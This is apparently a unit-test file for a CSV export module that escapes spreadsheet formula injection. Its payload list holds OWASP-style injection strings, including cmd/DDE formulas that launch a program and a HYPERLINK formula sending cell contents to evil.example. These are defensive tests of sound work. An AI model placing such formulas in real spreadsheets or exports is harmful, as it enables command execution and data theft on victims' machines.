import { csvCell, csvHeader, csvLine, textCell, toCsv } from './csv';

/**
 * Payloads from OWASP's CSV Injection page and the outside attack of issue 20: each must reach the
 * spreadsheet as text, i.e. the cell (after CSV unquoting) starts with a single quote.
 */
const PAYLOADS = [
  "-2+3+cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  "+2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '-1',
  '-1+1',
  '+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\t',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];

/** The cell's text as a spreadsheet reads it: RFC 4180 quotes removed. */
const unquote = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell);

describe('CSV cells (OWASP CSV injection)', () => {
  it.each(PAYLOADS)('guards %j with a leading single quote', (payload) => {
    expect(unquote(csvCell(payload))).toBe(`'${payload}`);
  });

  it('quotes a cell with a separator, quote, CR, LF or TAB, doubling its quotes', () => {
    expect(textCell('a,b')).toBe('"a,b"');
    expect(textCell('a;=1+1')).toBe('"a;=1+1"');
    expect(textCell('say "hi"')).toBe('"say ""hi"""');
    expect(textCell('line\r\nnext')).toBe('"line\r\nnext"');
    expect(textCell('a\tb')).toBe('"a\tb"');
    expect(textCell('\n=1+1')).toBe(`"'\n=1+1"`);
    expect(textCell('=1+"2"')).toBe(`"'=1+""2"""`);
  });

  it('leaves plain text, typed numbers, booleans and dates as they are', () => {
    expect(csvCell('Gibt es einen Rabattcode?')).toBe('Gibt es einen Rabattcode?');
    expect(csvCell('a-b')).toBe('a-b');
    expect(csvCell(-2)).toBe('-2');
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell(1800)).toBe('1800');
    expect(csvCell(12n)).toBe('12');
    expect(csvCell(false)).toBe('false');
    expect(csvCell(new Date('2026-11-03T08:00:00Z'))).toBe('2026-11-03T08:00:00.000Z');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('guards arrays (written as JSON) and headers like any text', () => {
    expect(csvCell(['vip', 'x'])).toBe('"[""vip"",""x""]"');
    expect(csvHeader(['id', '=cmd'])).toBe("id,'=cmd\r\n");
  });

  it('writes a line in column order and a whole table with the union of the columns', () => {
    expect(csvLine(['b', 'a'], { a: '-1', b: -1 })).toBe("-1,'-1\r\n");
    expect(toCsv([{ name: '=1+1', n: 1, nested: { m: -2 } }, { extra: '@x' }])).toBe("name,n,nested.m,extra\r\n'=1+1,1,-2,\r\n,,,'@x\r\n");
  });
});
